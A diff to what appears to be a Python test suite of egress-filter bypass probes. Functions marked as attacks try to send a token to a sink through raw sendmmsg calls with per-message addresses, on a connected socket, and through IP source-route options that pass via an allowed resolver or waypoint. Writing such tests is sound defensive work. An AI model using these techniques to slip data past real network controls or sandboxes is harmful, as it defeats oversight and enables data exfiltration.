@@ -43,14 +43,28 @@ def sendto_v4_on_v6():
     return heard(s)
 
 
-@attack
-def sendmmsg():
-    s = udp()
+def send_many(s):
+    """One message, with an address of its own."""
     to, data = ctypes.create_string_buffer(sockaddr(V4)), ctypes.create_string_buffer(TOKEN)
     vector = ctypes.create_string_buffer(struct.pack("QQ", ctypes.addressof(data), len(TOKEN)))
     message = struct.pack("QI4xQQ32x", ctypes.addressof(to), 16, ctypes.addressof(vector), 1)
     check(libc.sendmmsg(s.fileno(), message, 1, 0))
+
+
+@attack
+def sendmmsg():
+    s = udp()
+    send_many(s)
     return heard(s)
+
+
+@attack
+def connected_sendmmsg():
+    """What a socket is connected to does not matter where a message has an address."""
+    s = udp()
+    s.connect((NEXT_HOP, PORT))
+    send_many(s)
+    return "sent"
 
 
 @attack
@@ -80,6 +94,22 @@ def resolver_by_source_route():
     """To the resolver, says sendmsg(); by way of the sink, says its control message."""
     s = udp()
     s.sendmsg([TOKEN], [(socket.IPPROTO_IP, IP_RETOPTS, source_route(SINK))], 0, RESOLVER)
+    return "sent"
+
+
+@attack
+def allowed_by_source_route():
+    """The packet's destination is one that is allowed, and only the next hop."""
+    s = udp()
+    s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, source_route(WAYPOINT[0]))
+    s.connect(V4)
+    s.send(TOKEN)
+    return "sent"
+
+
+@attack
+def sendto_waypoint():
+    udp().sendto(TOKEN, WAYPOINT)
     return "sent"
 
 
